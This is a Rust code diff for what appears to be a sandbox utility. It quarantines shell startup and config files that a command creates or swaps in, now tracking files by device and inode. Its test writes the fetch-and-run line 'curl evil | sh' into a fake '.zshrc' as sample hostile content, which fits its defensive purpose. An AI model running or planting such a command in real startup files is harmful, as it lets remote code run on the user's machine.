@@ -6,10 +6,16 @@
 //! change, replace nor remove them: a mount point cannot be renamed or unlinked). Those that do
 //! not exist cannot be mount points; they are watched instead: whatever the command created
 //! there is moved aside when it is gone, before anything outside can run it, with a warning.
+//! The bound ones are checked again too: renaming a parent directory (`~/.config`, `.git`)
+//! moves the mount with it and frees the path, so a path that no longer holds the file it
+//! held at the start is moved aside the same way.
 //! The window: a shell the user starts *while* the command runs reads a startup file the
 //! command just created (docs/THREATS.md).
 
-use std::path::{Path, PathBuf};
+use std::{
+    os::unix::fs::MetadataExt as _,
+    path::{Path, PathBuf},
+};
 
 /// Below the invoking user's home.
 const HOME: [&str; 24] = [
@@ -50,6 +56,8 @@ pub struct Protected {
     pub existing: Vec<PathBuf>,
     /// Do not exist: watched, moved aside at exit if created.
     pub missing: Vec<PathBuf>,
+    /// The (device, inode) each of `existing` had at the start.
+    identity: Vec<(u64, u64)>,
 }
 
 impl Protected {
@@ -74,10 +82,12 @@ impl Protected {
             if open.iter().any(|o| p.starts_with(o)) || out.existing.contains(&p) {
                 continue;
             }
-            if p.symlink_metadata().is_ok() {
-                out.existing.push(p);
-            } else {
-                out.missing.push(p);
+            match p.symlink_metadata() {
+                Ok(m) => {
+                    out.existing.push(p);
+                    out.identity.push((m.dev(), m.ino()));
+                }
+                Err(_) => out.missing.push(p),
             }
         }
         out
@@ -88,7 +98,16 @@ impl Protected {
     pub fn quarantine(&self) -> Vec<(PathBuf, PathBuf)> {
         let stamp = std::process::id();
         let mut moved = Vec::new();
-        for p in &self.missing {
+        let replaced = self
+            .existing
+            .iter()
+            .zip(&self.identity)
+            .filter(|(p, id)| {
+                p.symlink_metadata()
+                    .is_ok_and(|m| (m.dev(), m.ino()) != **id)
+            })
+            .map(|(p, _)| p);
+        for p in self.missing.iter().chain(replaced) {
             if p.symlink_metadata().is_err() {
                 continue;
             }
@@ -135,10 +154,14 @@ mod tests {
         assert!(!p.existing.contains(&home.join(".profile")));
         assert!(!p.missing.contains(&home.join(".profile")));
         std::fs::write(home.join(".zshrc"), "curl evil | sh").unwrap();
+        // A parent renamed away frees a bound path: what is made there in its place goes too.
+        std::fs::rename(home.join(".config"), home.join(".config.old")).unwrap();
+        std::fs::create_dir_all(home.join(".config/autostart")).unwrap();
         let moved = p.quarantine();
-        assert_eq!(moved.len(), 1);
+        assert_eq!(moved.len(), 2, "{moved:?}");
         assert!(!home.join(".zshrc").exists());
-        assert!(moved[0].1.exists());
+        assert!(!home.join(".config/autostart").exists());
+        assert!(moved.iter().all(|(_, aside)| aside.exists()));
         std::fs::remove_dir_all(&dir).unwrap();
     }
 }
